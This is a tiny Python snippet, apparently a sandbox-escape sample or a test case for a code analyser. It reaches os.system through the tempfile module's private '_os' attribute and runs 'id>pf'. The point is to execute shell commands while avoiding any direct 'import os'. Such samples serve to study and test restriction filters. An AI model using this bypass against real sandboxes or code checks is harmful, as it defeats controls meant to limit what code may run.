import tempfile
class A:
    def go(self, __m=tempfile):
        return __m._os.system("id>pf")
A().go()
